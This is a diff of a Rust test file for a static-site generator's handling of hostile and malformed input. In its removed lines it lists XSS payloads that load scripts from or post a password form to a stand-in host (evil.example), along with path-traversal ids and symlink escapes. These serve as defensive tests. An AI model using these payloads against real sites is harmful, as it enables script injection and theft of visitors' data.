@@ -1,19 +1,14 @@
-//! Input of every sort: broken, hostile, enormous. Each gives a clear finding or is handled right;
-//! none brings the program down, leaves the site's folder, or runs in a reader's browser.
+//! Texts of every sort: broken, hostile, enormous. Each gives a clear finding or is handled right,
+//! and none brings the program down.
 
 use crate::pages;
-use crate::site::{Run, SOP, Site, files_below};
+use crate::site::{Run, SOP, Site, page};
 use std::fs;
 use std::time::{Duration, Instant};
 
-/// A page of free text.
-fn page(title: &str, body: &str) -> String {
-    format!("---\nkind: page\ntitle: {title}\n---\n\n{body}\n")
-}
-
 /// Checks and builds in spite of errors; both must end soon and by themselves. Gives the check.
 #[track_caller]
-fn survives(site: &Site) -> Run {
+pub fn survives(site: &Site) -> Run {
     let start = Instant::now();
     let run = site.check();
     assert!(run.code < 2, "{}", run.stderr);
@@ -23,13 +18,12 @@ fn survives(site: &Site) -> Run {
     run
 }
 
+/// Checks, builds, and looks at every page.
 #[track_caller]
-fn builds_soundly(site: &Site) {
+pub fn builds_soundly(site: &Site) {
     survives(site);
     pages::are_sound(&site.path("out"));
 }
-
-// Encodings
 
 #[test]
 fn a_file_in_another_encoding_is_found_where_it_begins() {
@@ -107,15 +101,15 @@ fn nul_bytes_do_no_harm() {
 #[test]
 fn control_characters_do_not_reach_the_terminal() {
     let evil = "\u{1b}[31mred\u{7}\u{9b}31m";
-    let site = Site::with_sop(&SOP.replace("RMA.", &format!("[[{evil}]].")).replace("title:", &format!("status: \"{evil}\"\ntitle:")));
+    let site = Site::with_sop(
+        &SOP.replace("RMA.", &format!("[[{evil}]].")).replace("title:", &format!("status: \"{evil}\"\ntitle:")),
+    );
     let run = survives(&site);
     assert_eq!(run.code, 1);
     let is_safe = |text: &str| !text.chars().any(|char| char.is_control() && !matches!(char, '\n'));
     assert!(is_safe(&run.stderr), "{:?}", run.stderr);
     assert!(!site.run(&["check", "--format", "json"]).stdout.contains('\u{1b}'));
 }
-
-// Front matter
 
 #[test]
 fn tabs_in_yaml_are_found() {
@@ -168,7 +162,16 @@ fn an_empty_file_has_one_fault() {
 
 #[test]
 fn front_matter_alone_and_empty_front_matter_are_no_trouble() {
-    for text in ["---", "---\n", "---\n---", "---\n---\n", "---\n# only a comment\n---\n", "---\n~\n---\n", "---\n- a\n---\n", "---\nwords\n---\n"] {
+    for text in [
+        "---",
+        "---\n",
+        "---\n---",
+        "---\n---\n",
+        "---\n# only a comment\n---\n",
+        "---\n~\n---\n",
+        "---\n- a\n---\n",
+        "---\nwords\n---\n",
+    ] {
         let site = Site::with_sop(text);
         assert_eq!(survives(&site).code, 1, "{text}");
     }
@@ -176,7 +179,10 @@ fn front_matter_alone_and_empty_front_matter_are_no_trouble() {
 
 #[test]
 fn two_yaml_documents_in_one_are_found() {
-    assert_eq!(Site::with_sop(SOP).file("sops/roles.yaml", "roles:\n  - title: A\n---\nroles:\n  - title: B\n").rules(), ["file/invalid-yaml"]);
+    assert_eq!(
+        Site::with_sop(SOP).file("sops/roles.yaml", "roles:\n  - title: A\n---\nroles:\n  - title: B\n").rules(),
+        ["file/invalid-yaml"]
+    );
 }
 
 #[test]
@@ -189,7 +195,9 @@ fn a_key_that_stands_twice_is_found_with_both_places() {
 
 #[test]
 fn words_that_yaml_reads_as_other_things_stay_words() {
-    let site = Site::with_sop(&SOP.replace("title: Handle a refund request", "title: 2026-09-01\nversion: 1.10").replace("RMA:", "NO:"));
+    let site = Site::with_sop(
+        &SOP.replace("title: Handle a refund request", "title: 2026-09-01\nversion: 1.10").replace("RMA:", "NO:"),
+    );
     site.is_clean();
     site.build();
     let page = site.main("refund.html");
@@ -208,7 +216,10 @@ fn aliases_that_blow_up_are_found() {
     for level in 1..12 {
         text += &format!("a{level}: &a{level} [{}]\n", vec![format!("*a{}", level - 1); 10].join(", "));
     }
-    for site in [Site::with_sop(&SOP.replace("title:", &format!("{text}title:"))), Site::with_sop(SOP).file("sops/roles.yaml", &text)] {
+    for site in [
+        Site::with_sop(&SOP.replace("title:", &format!("{text}title:"))),
+        Site::with_sop(SOP).file("sops/roles.yaml", &text),
+    ] {
         survives(&site);
         assert!(site.rules().contains(&"file/invalid-yaml".to_owned()), "{:?}", site.rules());
     }
@@ -217,14 +228,18 @@ fn aliases_that_blow_up_are_found() {
 #[test]
 fn yaml_nested_without_end_is_found() {
     let depth = 100_000;
-    let texts = ["[".repeat(depth), "{a: ".repeat(depth), "- ".repeat(depth), format!("{}{}", "[".repeat(depth), "]".repeat(depth))];
+    let texts = [
+        "[".repeat(depth),
+        "{a: ".repeat(depth),
+        "- ".repeat(depth),
+        format!("{}{}", "[".repeat(depth), "]".repeat(depth)),
+    ];
     for text in texts {
-        let site = Site::with_sop(&SOP.replace("title:", &format!("tags: {text}\ntitle:"))).file("sops/roles.yaml", format!("roles: {text}\n"));
+        let site = Site::with_sop(&SOP.replace("title:", &format!("tags: {text}\ntitle:")))
+            .file("sops/roles.yaml", format!("roles: {text}\n"));
         assert_eq!(survives(&site).code, 1);
     }
 }
-
-// Markdown
 
 #[test]
 fn markdown_nested_without_end_is_read() {
@@ -268,7 +283,10 @@ fn markdown_nested_without_end_is_read() {
         let site = Site::new()
             .file("sops/steps.md", SOP.replace("Greet the customer.", &text))
             .file("sops/text.md", page("Text", &text))
-            .file("sops/value.md", SOP.replace("purpose: Give", &format!("purpose: |\n  {}\n  Give", text.replace('\n', "\n  "))));
+            .file(
+                "sops/value.md",
+                SOP.replace("purpose: Give", &format!("purpose: |\n  {}\n  Give", text.replace('\n', "\n  "))),
+            );
         site.build_anyway();
         let took = start.elapsed();
         assert!(took < Duration::from_secs(20), "{name}… took {took:?}");
@@ -277,7 +295,9 @@ fn markdown_nested_without_end_is_read() {
 
 #[test]
 fn a_footnote_that_mentions_itself_ends() {
-    builds_soundly(&Site::new().file("sops/a.md", page("A", "Text[^a].\n\n[^a]: Note[^b].\n\n[^b]: Note[^a] and [^b].")));
+    builds_soundly(
+        &Site::new().file("sops/a.md", page("A", "Text[^a].\n\n[^a]: Note[^b].\n\n[^b]: Note[^a] and [^b].")),
+    );
 }
 
 #[test]
@@ -330,393 +350,20 @@ fn large_files_that_are_no_documents_may_be_published() {
     assert_eq!(fs::metadata(site.path("out/files/film.mp4")).map(|file| file.len()).ok(), Some(50 * 1024 * 1024));
 }
 
-// Names
-
-#[test]
-fn names_of_blanks_emoji_and_signs_become_pages() {
-    let mut site = Site::new();
-    for (number, name) in [" ", "👋", "a b", "返金 手順", "100%", "a#b", "a&b", "it's", "(a)", "-", "...a", "a+b=c", "é"].iter().enumerate() {
-        site = site.file(&format!("sops/{number}/{name}.md"), page(&format!("T{number}"), "Text."));
-    }
-    builds_soundly(&site);
-    let home = site.main("index.html");
-    assert!((0..13).filter(|number| *number != 10).all(|number| home.contains(&format!(">T{number}</a>"))), "{home}");
-}
-
-#[cfg(target_os = "linux")]
-#[test]
-fn names_that_only_some_systems_allow_become_pages() {
-    let mut site = Site::new();
-    for (number, name) in ["a?b", "a:b", "a\"b", "<a>", "a|b", "a\\b", "a*b", "a\nb", "a\u{1b}b", "\u{202e}a"].iter().enumerate() {
-        site = site.file(&format!("sops/{number}/{name}.md"), page(&format!("T{number}"), "Text [[nowhere]]."));
-    }
-    let run = survives(&site);
-    assert!(!run.stderr.contains('\u{1b}'), "{:?}", run.stderr);
-    pages::are_sound(&site.path("out"));
-}
-
-#[cfg(target_os = "linux")]
-#[test]
-fn a_name_that_is_not_unicode_is_found() {
-    use std::os::unix::ffi::OsStrExt;
-    let site = Site::with_sop(SOP);
-    fs::write(site.path("sops").join(std::ffi::OsStr::from_bytes(b"caf\xe9.md")), SOP).expect("a file");
-    assert_eq!(site.rules(), ["file/unusable-name"]);
-    builds_soundly(&site);
-}
-
-#[cfg(target_os = "linux")]
-#[test]
-fn two_names_that_differ_in_their_encoding_are_found() {
-    let site = Site::new().file("sops/\u{e9}.md", page("A", "Text.")).file("sops/e\u{301}.md", page("B", "Text."));
-    assert_eq!(site.rules(), ["file/unusable-name"]);
-    builds_soundly(&site);
-}
-
-#[cfg(target_os = "linux")]
-#[test]
-fn two_files_whose_pages_some_disks_cannot_tell_apart_are_found() {
-    let site = Site::new().file("sops/A.md", page("One", "Text.")).file("sops/a.md", page("Two", "Text."));
-    site.finds_one("metadata/page-taken", &["sops/A.md", "sops/a.md", "capitals"]);
-    builds_soundly(&site);
-    assert!(files_below(&site.path("out")).iter().any(|file| file == "a-1.html"), "{:?}", site.files("out"));
-}
-
-#[test]
-fn an_entry_and_a_file_that_become_one_page_are_found() {
-    let site = Site::new()
-        .file("sops/x.yaml", "roles:\n  - id: y\n    title: Entry\n")
-        .file("sops/x/y.md", "---\nkind: page\nid: z\ntitle: File\n---\n\nText.\n");
-    site.finds_one("metadata/page-taken", &["`x/y.html`", "sops/x.yaml", "sops/x/y.md"]);
-    builds_soundly(&site);
-}
-
-#[test]
-fn two_endings_that_become_one_page_are_found() {
-    let site = Site::new().file("sops/a.md", page("One", "Text.")).file("sops/a.markdown", page("Two", "Text."));
-    assert!(site.rules().contains(&"metadata/page-taken".to_owned()), "{:?}", site.rules());
-    builds_soundly(&site);
-}
-
-#[test]
-fn a_static_file_and_a_document_that_become_one_page_are_found() {
-    let site = Site::with_sop(SOP).file("static/refund.html", "mine");
-    site.finds_one("metadata/page-taken", &["static/refund.html", "sops/refund.md"]);
-}
-
-#[test]
-fn documents_named_like_pages_of_the_program_take_their_place() {
-    let mut site = Site::with_sop(SOP);
-    for name in ["index", "glossary", "404", "departments/support", "roles/index", "departments/index"] {
-        site = site.file(&format!("sops/{name}.md"), page(&format!("My {name}"), "Our RMA."));
-    }
-    let site = site.file("sops/people.yaml", "roles:\n  - title: Agent\ndepartments:\n  - id: dept\n    title: Dept\n");
-    site.is_clean();
-    builds_soundly(&site);
-    for name in ["index", "glossary", "404", "departments/support", "roles/index"] {
-        assert!(site.main(&format!("{name}.html")).contains(&format!("<h1>My {name}</h1>")), "{name}");
-    }
-}
-
-#[test]
-fn ids_never_leave_the_output() {
-    for id in ["..", "../x", "../../x", "/etc/x", "a/b", "a\\b", "<script>", "a b", "C:x", ".", ".hidden", "a\u{0}b", "\"", "#a", "a?b"] {
-        let id = serde_json::to_string(id).expect("a string");
-        let site = Site::new()
-            .file("sops/a.md", format!("---\nkind: page\nid: {id}\ntitle: A\n---\n\nText.\n"))
-            .file("sops/b.yaml", format!("roles:\n  - id: {id}\n    title: B\n"))
-            .file("sops/c.md", format!("---\nkind: page\naliases: [{id}, \"../../{}\"]\ntitle: C\n---\n\nText.\n", id.trim_matches('"')));
-        assert!(site.rules().contains(&"metadata/bad-id".to_owned()), "{id}: {:?}", site.rules());
-        builds_soundly(&site);
-        let mut around: Vec<String> = fs::read_dir(site.folder()).expect("the site").map(|entry| entry.expect("an entry").file_name().to_string_lossy().into_owned()).collect();
-        around.sort();
-        assert_eq!(around, ["out", "sops"], "{id}");
-    }
-}
-
-#[test]
-fn ids_that_windows_cannot_store_are_found() {
-    for id in ["CON", "nul", "com1", "a."] {
-        let site = Site::new().file("sops/roles.yaml", format!("roles:\n  - id: {id}\n    title: A\n"));
-        assert_eq!(site.rules(), ["metadata/bad-id"], "{id}");
-    }
-}
-
-// Links on the disk
-
-#[cfg(unix)]
-fn link(site: &Site, target: &std::path::Path, name: &str) {
-    let name = site.path(name);
-    fs::create_dir_all(name.parent().expect("a folder")).expect("folders");
-    std::os::unix::fs::symlink(target, name).expect("a link");
-}
-
-#[cfg(unix)]
-#[test]
-fn a_link_that_leads_in_a_circle_is_found() {
-    let site = Site::with_sop(SOP);
-    link(&site, &site.path("sops"), "sops/deep/again");
-    site.finds_one("file/link-loop", &["sops/deep/again"]);
-    builds_soundly(&site);
-}
-
-#[cfg(unix)]
-#[test]
-fn a_link_to_itself_is_found() {
-    let site = Site::with_sop(SOP);
-    link(&site, &site.path("sops/self.md"), "sops/self.md");
-    assert_eq!(site.check().code, 1);
-    builds_soundly(&site);
-}
-
-#[cfg(unix)]
-#[test]
-fn a_link_to_nothing_is_found() {
-    let site = Site::with_sop(SOP);
-    link(&site, &site.path("sops/absent.md"), "sops/dangling.md");
-    site.finds_one("file/unreadable", &["sops/dangling.md"]);
-    builds_soundly(&site);
-}
-
-#[cfg(unix)]
-#[test]
-fn a_link_out_of_the_site_publishes_nothing() {
-    let outside = Site::new()
-        .file("secret.md", page("Secret", "The password is 1234."))
-        .file("secret.png", "The password is 1234.")
-        .file("deep/secret.yaml", "roles:\n  - title: The password is 1234.\n");
-    let site = Site::with_sop(&SOP.replace("RMA.", "RMA ![a](secret.png) ![b](folder/secret.png)."));
-    link(&site, &outside.path("secret.md"), "sops/secret.md");
-    link(&site, &outside.path("secret.png"), "sops/secret.png");
-    link(&site, outside.folder(), "sops/folder");
-    link(&site, &outside.path("secret.png"), "static/secret.png");
-    link(&site, outside.folder(), "static/folder");
-    let rules = site.rules();
-    assert_eq!(rules.iter().filter(|rule| *rule == "file/outside-site").count(), 5, "{:?}", site.check().stderr);
-    builds_soundly(&site);
-    for file in site.files("out") {
-        let bytes = fs::read(site.path("out").join(&file)).expect("a file");
-        assert!(!String::from_utf8_lossy(&bytes).contains("password"), "{file}");
-    }
-}
-
-#[cfg(unix)]
-#[test]
-fn a_link_out_of_the_site_is_not_walked() {
-    let site = Site::with_sop(SOP);
-    link(&site, std::path::Path::new("/"), "sops/everything");
-    let start = Instant::now();
-    assert_eq!(site.rules(), ["file/outside-site"]);
-    assert!(start.elapsed() < Duration::from_secs(5), "{:?}", start.elapsed());
-}
-
-#[cfg(unix)]
-#[test]
-fn templates_and_themes_are_not_read_from_outside() {
-    let outside = Site::new().file("home.html", "The password is 1234.").file("theme.css", "/* The password is 1234. */");
-    let site = Site::with_sop(SOP);
-    link(&site, &outside.path("home.html"), "templates/home.html");
-    link(&site, &outside.path("theme.css"), "themes/default/extra.css");
-    site.build_anyway();
-    for file in site.files("out") {
-        assert!(!site.read(&format!("out/{file}")).contains("password"), "{file}");
-    }
-}
-
-#[cfg(unix)]
-#[test]
-fn a_link_inside_the_site_is_followed() {
-    let site = Site::new().file("shared/refund.md", SOP).file("sops/start.md", page("Start", "[[refund]]"));
-    link(&site, &site.path("shared/refund.md"), "sops/refund.md");
-    site.is_clean();
-    site.build();
-    assert!(site.main("refund.html").contains("Refund the order"));
-}
-
-#[test]
-fn a_folder_named_like_a_document_is_a_folder() {
-    let site = Site::with_sop(SOP).file("sops/folder.md/inner.md", page("Inner", "Text."));
-    site.is_clean();
-    builds_soundly(&site);
-    assert!(site.main("folder.md/inner.html").contains("Text."));
-}
-
-#[test]
-fn hidden_files_and_foreign_folders_are_passed_over() {
-    Site::with_sop(SOP).file("sops/.draft.md", "").file("sops/.git/a.md", "").file("sops/node_modules/b/README.md", "").is_clean();
-}
-
-#[test]
-fn a_site_without_documents_is_a_site() {
-    let site = Site::new().file("sops/notes.txt", "nothing");
-    site.is_clean();
-    builds_soundly(&site);
-    assert!(site.main("index.html").contains("There are no documents yet."));
-}
-
-// Readers' browsers
-
-/// What an attacker would write where words are expected.
-const EVIL: [&str; 4] =
-    ["<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'><svg onload=alert(1)>", "</title></main><script src=//evil.example/x.js></script>"];
-
-#[test]
-fn no_field_reaches_a_page_unescaped() {
-    for evil in EVIL {
-        let quoted = serde_json::to_string(evil).expect("a string");
-        let front = format!(
-            "title: {quoted}\ndescription: {quoted}\ndepartment: {quoted}\nowner: {quoted}\nversion: {quoted}\naudience: [{quoted}]\ntags: [{quoted}]\n\
-             situations: [{quoted}]\npurpose: {quoted}\naliases: [{quoted}]\nglossary:\n  {quoted}: {quoted}\nlang: en"
-        );
-        let yaml_steps = format!(
-            "instructions:\n  - phase: {quoted}\n    steps:\n      - ask: {quoted}\n        id: {quoted}\n        role: {quoted}\n        tool: {quoted}\n        \
-             channel: {quoted}\n        to: {quoted}\n        needs: {quoted}\n        say: {quoted}\n        record: [{quoted}]\n        answers: {{ {quoted}: end }}\n"
-        );
-        let body = format!(
-            "## {evil}\n\n1. {evil} {{#a role={quoted}}}\n   - {evil} → end\n\n[{evil}](https://example.com/ '{evil}') ![{evil}](https://example.com/a.png) `{evil}`\n\n\
-             ```{evil}\n{evil}\n```\n\n> [!{evil}]\n> a\n\n[[nowhere|{evil}]] [[{evil}]] <{evil}>\n\n| {evil} |\n|---|\n| {evil} |\n\n[^1]\n\n[^1]: {evil}\n"
-        );
-        let settings = format!("title = {quoted}\ndescription = {quoted}\nbase_url = \"https://example.com/\"\nedit_url = \"https://example.com/{{path}}?{}\"\n", evil.replace(['"', ' '], ""));
-        let site = Site::new()
-            .file("sops/a.md", format!("---\n{front}\n{yaml_steps}---\n"))
-            .file("sops/b.md", format!("---\n{front}\n---\n\n{body}\n\n## Instructions\n\n{body}\n"))
-            .file("sops/c.yaml", format!("terms:\n  - {{ title: {quoted}, definition: {quoted}, synonyms: [{quoted}] }}\nroles:\n  - {{ title: {quoted}, may: {quoted} }}\n"))
-            .file("sops/d.yaml", format!("departments:\n  - {{ title: {quoted}, purpose: {quoted} }}\n"))
-            .file("sopwith.toml", settings);
-        builds_soundly(&site);
-        for file in site.files("out").iter().filter(|file| file.ends_with(".html")) {
-            let html = site.read(&format!("out/{file}"));
-            assert!(!html.contains("<script") && !html.contains("<svg") && !html.contains("<img src=x"), "{file}: {html}");
-        }
-    }
-}
-
-#[test]
-fn the_words_of_a_title_with_html_in_it_are_shown() {
-    let site = Site::with_sop(&SOP.replace("Handle a refund request", "Use <b> & \"quotes\""));
-    site.is_clean();
-    builds_soundly(&site);
-    let html = site.read("out/refund.html");
-    assert!(html.contains("<h1>Use &lt;b&gt; &amp; &quot;quotes&quot;</h1>"), "{html}");
-    assert!(html.contains("<title>Use &lt;b&gt; &amp; &quot;quotes&quot; · Knowledge base</title>"), "{html}");
-}
-
-#[test]
-fn raw_html_is_kept_as_far_as_it_is_harmless() {
-    let body = "<details open><summary>More</summary>\n\n*Text* with <kbd>Ctrl</kbd> and H<sub>2</sub>O.<br>\n\n</details>\n\n<table><tr><td>a</td></tr></table>";
-    let site = Site::new().file("sops/a.md", page("A", body));
-    site.is_clean();
-    builds_soundly(&site);
-    let html = site.main("a.html");
-    for words in ["<details open=\"\"><summary>More</summary>", "<em>Text</em>", "<kbd>Ctrl</kbd>", "H<sub>2</sub>O", "<td>a</td>"] {
-        assert!(html.contains(words), "no {words} in {html}");
-    }
-}
-
-#[test]
-fn raw_html_that_could_do_something_is_dropped() {
-    for body in [
-        "<script>alert(1)</script>",
-        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-        "a <script>alert(1)</script> b",
-        "<iframe src=\"https://evil.example/\"></iframe>",
-        "<style>body { display: none }</style>",
-        "<p style=\"color: red\" onclick=\"alert(1)\">a</p>",
-        "<img src=\"x.png\" onerror=\"alert(1)\" alt=\"\">",
-        "<img src=\"https://evil.example/x.png\" alt=\"\">",
-        "<a href=\"javascript:alert(1)\">a</a>",
-        "<a href=\" &#106;avascript:alert(1)\">a</a>",
-        "<a href=\"java\nscript:alert(1)\">a</a>",
-        "<form action=\"https://evil.example/\"><input name=\"password\"><button>Go</button></form>",
-        "<svg onload=\"alert(1)\"><a xlink:href=\"javascript:alert(1)\"></a></svg>",
-        "<math href=\"javascript:alert(1)\">a</math>",
-        "<object data=\"https://evil.example/\"></object><embed src=\"https://evil.example/\">",
-        "<base href=\"https://evil.example/\">",
-        "<meta http-equiv=\"refresh\" content=\"0; url=https://evil.example/\">",
-        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
-        "<video src=\"https://evil.example/x.mp4\" autoplay></video>",
-        "<audio src=\"https://evil.example/x.mp3\"></audio>",
-        "<input type=\"image\" src=\"https://evil.example/x.png\">",
-        "<table background=\"https://evil.example/x.png\"><tr><td>a</td></tr></table>",
-        "<blockquote cite=\"https://evil.example/\">a</blockquote>",
-        "\u{f8fe}<a href=\"\u{f8fe}javascript:alert(1)\">a</a>",
-        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
-        "<template><script>alert(1)</script></template>",
-    ] {
-        let site = Site::new().file("sops/a.md", page("A", body));
-        builds_soundly(&site);
-        let html = site.main("a.html");
-        for words in ["alert(1)\"", "<script", "onerror=", "<button", "evil.example/\" ", "style="] {
-            assert!(!html.contains(words), "{body}: {html}");
-        }
-    }
-}
-
-#[test]
-fn tags_that_are_not_closed_do_not_swallow_the_page() {
-    for tag in [
-        "<div>", "<div", "<details>", "</div></div>", "</main></body></html>", "<!--", "<!-- a", "<textarea>", "<title>", "<xmp>", "<plaintext>", "<select>",
-        "<table>", "<b><i>", "<a href=\"https://example.com/\">", "<p", "<![CDATA[", "<?php", "<!DOCTYPE html>", "<script>", "<style>", "<template>", "<pre>",
-    ] {
-        let site = Site::with_sop(&SOP.replace("## Instr", &format!("Before {tag} after.\n\n{tag}\n\n## Instr"))).file("sops/a.md", page("A", tag));
-        builds_soundly(&site);
-        for name in ["out/refund.html", "out/a.html"] {
-            let html = site.read(name);
-            let (_, after) = html.split_once("</main>").unwrap_or_else(|| panic!("{tag}: {html}"));
-            assert!(after.contains("<footer class=\"site-footer\">"), "{tag}: {after}");
-        }
-    }
-}
-
-#[test]
-fn comments_are_not_published() {
-    let site = Site::new().file("sops/a.md", page("A", "Text <!-- secret --> text.\n\n<!--\nsecret\n-->\n\n<div><!-- secret --></div>"));
-    site.is_clean();
-    builds_soundly(&site);
-    assert!(!site.read("out/a.html").contains("secret"));
-}
-
-#[test]
-fn a_picture_elsewhere_is_a_link_and_is_not_loaded() {
-    let site = Site::new().file("sops/a.md", page("A", "![The form](https://example.com/form.png) ![](//example.com/b.png)"));
-    site.is_clean();
-    builds_soundly(&site);
-    let html = site.main("a.html");
-    assert!(!html.contains("<img"), "{html}");
-    assert!(html.contains("<a class=\"image-elsewhere\" href=\"https://example.com/form.png\">The form</a>"), "{html}");
-}
-
-#[test]
-fn headings_named_like_places_of_the_page_have_names_of_their_own() {
-    let headings = ["Content", "Contents title", "Used by", "Footnotes", "Page terms", "Term RMA", "fn-1", "Term RMA meaning", "fnref-1"];
-    let body: String = headings.iter().map(|heading| format!("## {heading}\n\nText[^1].\n\n")).collect();
-    let site = Site::with_sop(&SOP.replace("## Instr", &format!("{body}[^1]: A note.\n\n## Instr"))).file("sops/a.md", page("A", "[[refund#used-by]] [[refund]]"));
-    builds_soundly(&site);
-}
-
-#[test]
-fn steps_named_like_places_of_the_page_are_found_or_kept_apart() {
-    for id in ["content", "used-by", "contents-title", "term-rma", "term-rma-meaning", "purpose", "glossary"] {
-        let site = Site::with_sop(&SOP.replace("{#greet", &format!("{{#{id}"))).file("sops/a.md", page("A", "[[refund]]"));
-        builds_soundly(&site);
-    }
-}
-
-#[test]
-fn names_in_raw_html_do_not_take_those_of_the_page() {
-    let site = Site::with_sop(&SOP.replace("## Instr", "<p id=\"content\">a</p> <p id=\"greet\">b</p>\n\n## Instr"));
-    builds_soundly(&site);
-}
-
-// Everything else
-
 #[test]
 fn changed_bytes_never_bring_the_program_down() {
     use proptest::prelude::*;
     use sopwith::compile::{self, Live};
-    let pieces = ["---\n", "```", "[[", "]]", "{#", "}", "→", "|", "\t", "\r", "\0", "\u{feff}", "返", "👋", "<b>", "- ", "1. ", "> [!SAY]", ": ", "&a ", "*a", "\u{301}", "  ", "\n\n", "[^1]:"];
+    let pieces = [
+        "---\n", "```", "[[", "]]", "{#", "}", "→", "|", "\t", "\r", "\0", "\u{feff}", "返", "👋", "<b>", "- ", "1. ",
+        "> [!SAY]", ": ", "&a ", "*a", "\u{301}", "  ", "\n\n", "[^1]:",
+    ];
     let change = (0..SOP.len(), 0..40usize, proptest::sample::select(pieces.to_vec()));
-    let mut runner = proptest::test_runner::TestRunner::new(ProptestConfig { cases: 200, failure_persistence: None, ..ProptestConfig::default() });
+    let mut runner = proptest::test_runner::TestRunner::new(ProptestConfig {
+        cases: 200,
+        failure_persistence: None,
+        ..ProptestConfig::default()
+    });
     let tried = runner.run(&proptest::collection::vec(change, 1..8), |changes| {
         let mut text = SOP.to_owned();
         for (at, length, piece) in changes {
@@ -733,7 +380,11 @@ fn changed_bytes_never_bring_the_program_down() {
         let disk = sopwith::vfs::Disk::open(disk.folder()).map(|opened| (opened, disk)).expect("the site");
         let checked = compile::check(&disk.0, &|_| {}).expect("a site");
         for found in &checked.diagnostics {
-            sopwith::report::human(found, |path| checked.source(path), sopwith::report::Style { colour: true, width: 80 });
+            sopwith::report::human(
+                found,
+                |path| checked.source(path),
+                sopwith::report::Style { colour: true, width: 80 },
+            );
         }
         compile::build(&disk.0, &checked, Live::No, &|_| {}).expect("pages");
         Ok(())
